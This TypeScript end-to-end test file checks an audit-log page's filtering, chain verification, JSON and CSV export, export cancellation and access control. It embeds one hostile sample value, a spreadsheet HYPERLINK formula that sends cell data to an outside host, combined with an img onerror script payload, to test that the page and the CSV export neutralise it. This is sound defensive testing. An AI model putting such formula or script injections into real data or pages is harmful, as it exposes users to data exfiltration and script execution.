import { readFile } from 'node:fs/promises'
import type { Browser, Download, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { createDatabase, updateDatabase } from '../databases/documents.ts'
import { useWorld } from '../world.ts'
import { openBrowser, visitAs } from './browser.ts'

const formula = '=HYPERLINK("https://example.net/?"&A1,"<img src=x onerror=document.title=1>")'

const { gateway, account } = useWorld({ accountName: 'Example Inc' })
let browser: Browser

beforeAll(async () => {
  const { id } = await createDatabase(account, { name: 'plants' })
  for (let maxTables = 1; maxTables <= 120; maxTables++) await updateDatabase(account.admin, { id, maxTables })
  await account.admin.run(
    'mutation ($input: CreateDatabaseTokenInput!) { createDatabaseToken(input: $input) { token { id } } }',
    { input: { clusterId: account.clusterIds[0], description: formula, permissions: [] } },
  )
  browser = await openBrowser()
})
afterAll(() => browser?.close())

async function exported(page: Page, button: string): Promise<string> {
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: button }).click(),
  ])
  return readFile(await download.path(), 'utf8')
}

it('an Auditor narrows the log by its address, looks at a change, and finds the chain intact', async () => {
  const auditor = await account.join('ann@example.com', ['auditor'])
  const { page, goto, complaints, foreignRequests } = await visitAs(browser, gateway, auditor)
  await goto('/audit')
  await page.getByRole('cell', { name: formula }).waitFor()
  await page.getByLabel('Action').fill('database.up*')
  await page.getByLabel('Action').press('Enter')
  await page.getByText('120 in total').waitFor()
  await page.getByRole('button', { name: 'plants' }).first().click()
  await page.getByLabel('Outcome').selectOption('Succeeded')
  const asked = new URL(page.url()).searchParams
  expect(Object.fromEntries(asked)).toEqual({
    action: 'database.up*',
    resource: expect.stringMatching(/^database_/),
    outcome: 'SUCCEEDED',
  })

  const details = page.getByRole('button', { name: /^Details of event/ }).first()
  await details.click()
  const dialog = page.getByRole('dialog', { name: 'database.update' })
  await dialog.getByRole('row', { name: 'maxTables 119 120' }).waitFor()
  await page.keyboard.press('Escape')
  await dialog.waitFor({ state: 'detached' })
  await expect.poll(() => page.evaluate('document.activeElement.ariaLabel')).toMatch(/^Details of event/)

  await page.getByLabel('Action').fill('Database!')
  await page.getByLabel('Action').press('Enter')
  await page.getByText('An action is dotted lower case').first().waitFor()
  expect(await page.getByLabel('Action').getAttribute('aria-invalid')).toBe('true')
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await page.getByRole('button', { name: 'Verify the log' }).click()
  await page.getByText('The log is intact').waitFor()
  expect(await page.title()).not.toBe('1')
  expect(complaints).toEqual([])
  expect(foreignRequests).toEqual([])
})

it('an Admin exports the filtered log, oldest first: JSON lines hold all, and no cell of the CSV is a formula', async () => {
  const { page, goto, complaints, foreignRequests } = await visitAs(browser, gateway, account.admin)
  await goto('/audit?action=database.*')
  await page.getByText('121 in total').waitFor()
  const lines = (await exported(page, 'Export JSON lines')).trimEnd().split('\n')
  const events = lines.map((line) => JSON.parse(line))
  expect(events.map(({ action }) => action)).toEqual(['database.create', ...Array(120).fill('database.update')])
  const numbers = events.map(({ sequence }) => Number(sequence))
  expect(numbers).toEqual(numbers.toSorted((a, b) => a - b))
  expect(events[120].changes).toEqual([{ field: 'maxTables', before: 119, after: 120 }])
  expect(events[120].hash).toMatch(/^[0-9a-f]{64}$/)

  await goto('/audit?action=database_token.create')
  await page.getByText('1 in total').waitFor()
  const [header, row] = (await exported(page, 'Export CSV')).split('\r\n')
  expect(header).toMatch(/^sequence,occurredAt,action,/)
  expect(row).toContain(`,"'${formula.replaceAll('"', '""')}",`)
  expect(complaints).toEqual([])
  expect(foreignRequests).toEqual([])
})

it('an export under way shows how far it is, and stops at once when told to, without a file', async () => {
  const { page, goto } = await visitAs(browser, gateway, account.admin)
  const downloads: Download[] = []
  page.on('download', (download) => downloads.push(download))
  await goto('/audit')
  await page.getByRole('cell', { name: formula }).waitFor()
  let release = () => {}
  const held = new Promise<void>((resolve) => {
    release = resolve
  })
  await page.route('**/graphql', async (route) => {
    if (route.request().postData()?.includes('"before":"')) await held
    await route.continue()
  })
  await page.getByRole('button', { name: 'Export CSV' }).click()
  await page.getByText(/^100 of 1\d\d events$/).waitFor()
  await page.getByRole('button', { name: 'Stop' }).click()
  await page.getByRole('button', { name: 'Export CSV' }).waitFor()
  const answered = page.waitForResponse('**/graphql')
  release()
  await answered
  await page.getByLabel('Action').fill('database_token.create')
  await page.getByLabel('Action').press('Enter')
  await page.getByText('1 in total').waitFor()
  await exported(page, 'Export CSV')
  expect(downloads).toHaveLength(1)
})

it('a broken chain says where it is broken', async () => {
  const other = await gateway.account('Broken Inc')
  await createDatabase(other, { name: 'plants' })
  await gateway.db
    .updateTable('audit_events')
    .where('account_id', '=', other.id)
    .where('sequence', '=', 2)
    .set({ actor_label: 'nobody' })
    .execute()
  const { page, goto } = await visitAs(browser, gateway, other.admin)
  await goto('/audit')
  await page.getByRole('button', { name: 'Verify the log' }).click()
  await page.getByText('The log is broken at event 2').waitFor()
})

it('a Member reads that they may not see the log', async () => {
  const { page, goto, complaints } = await visitAs(browser, gateway, await account.join('mel@example.com', ['member']))
  await goto('/audit')
  await page.getByText('no group of yours grants AUDIT_READ').waitFor()
  expect(complaints).toEqual([])
})
